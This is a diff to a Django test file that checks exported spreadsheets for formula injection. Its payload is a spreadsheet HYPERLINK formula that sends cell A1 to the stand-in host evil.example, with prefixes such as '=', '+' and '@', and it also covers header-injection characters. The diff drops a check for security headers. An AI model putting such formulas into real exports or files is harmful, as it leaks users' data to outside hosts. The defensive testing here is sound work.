@@ -2,8 +2,8 @@
 
 import csv
 from io import BytesIO, StringIO
+from itertools import cycle
 
-import pytest
 from django.http import HttpResponse
 from openpyxl import load_workbook
 
@@ -12,10 +12,8 @@ from tests.attacks.offered import ClientOf
 from tests.attacks.poison import poison
 from tests.desk.test_every_url_as_every_role import EXPECTED, Things, address, ask, product
 
-FORMULAS = {
-    start: f'{start}HYPERLINK("http://evil.example/"&A1,"点击")'
-    for start in ("=", "+", "-", "@", "\t=", "\r=")
-}
+STARTS = ("=", "+", "-", "@", "\t=", "\r=")
+FORMULA = 'HYPERLINK("http://evil.example/"&A1,"点击")'
 SHEETS = {".xlsx", ".csv"}
 # Names of downloads go into a header.
 LINES = "\r\n\x00"
@@ -41,7 +39,7 @@ def cells_of(content: bytes, name: str) -> list[tuple[str, str]]:
 
 def downloads(things: Things, client_of: ClientOf) -> dict[str, HttpResponse]:
     """What every address that answers with a file gives the first of those who may ask."""
-    found = {}
+    found: dict[str, HttpResponse] = {}
     for name, rule in sorted(EXPECTED.items()):
         if not rule.post and rule.status == 200 and rule.who:
             url = address(name, product()[name], things)
@@ -51,21 +49,20 @@ def downloads(things: Things, client_of: ClientOf) -> dict[str, HttpResponse]:
     return found
 
 
-@pytest.mark.parametrize("start", FORMULAS)
-def test_no_cell_of_any_download_is_a_formula(things: Things, client_of: ClientOf, start: str) -> None:
-    poison(lambda room: FORMULAS[start][:room])
-    reached = set()
+def test_no_cell_of_any_download_is_a_formula(things: Things, client_of: ClientOf) -> None:
+    beginnings = cycle(STARTS)
+    poison(lambda room: (next(beginnings) + FORMULA)[:room])
+    reached, listed = set(), set()
     for name, answer in downloads(things, client_of).items():
         said = answer["Content-Disposition"]
         assert not set(LINES) & set(said), name
-        assert "sandbox" in answer.get("Content-Security-Policy", "") or answer.get(
-            "X-Content-Type-Options"
-        ), name
         if not any(kind in said for kind in SHEETS):
             continue
         cells = cells_of(content_of(answer), said)
         assert [cell for cell in cells if cell[0] == "f" or cell[1].startswith(GUARDED)] == [], name
+        listed.add(name)
         if any("HYPERLINK" in text for _kind, text in cells):
             reached.add(name)
     # Where people's words are listed they did come in; the others are empty forms to fill in.
     assert reached >= {name for name in EXPECTED if name.endswith("-export")}
+    assert len(listed) > 15
